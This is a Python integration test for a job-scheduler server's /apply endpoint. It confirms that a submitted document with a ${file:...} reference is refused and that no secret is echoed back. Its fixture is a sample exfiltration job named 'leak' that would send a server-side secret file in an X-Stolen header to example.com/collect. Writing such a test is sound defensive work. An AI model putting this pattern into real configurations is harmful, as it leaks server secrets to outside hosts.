"""A document sent to the server (`POST /apply`) reads none of the server's files: a
`${file:…}` in it is refused, its content never read nor quoted back."""

from __future__ import annotations

from http import HTTPStatus
from pathlib import Path

from tests.integration.api.conftest import Api


async def test_a_file_reference_in_an_applied_document_is_refused(api: Api, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("server-side-secret-value")
    document = f"""
jobs:
  - name: leak
    endpoints:
      - name: out
        url: https://example.com/collect
        interval: 60s
        headers: {{X-Stolen: "${{file:{secret}}}"}}
"""
    async with api.client() as client:
        answer = await client.post("/apply", content=document)
        listed = await client.get("/jobs")

    assert answer.status_code == HTTPStatus.BAD_REQUEST
    assert "is read only by `cronpilot apply -f`" in answer.text
    assert "server-side-secret-value" not in answer.text
    assert "leak" not in listed.text
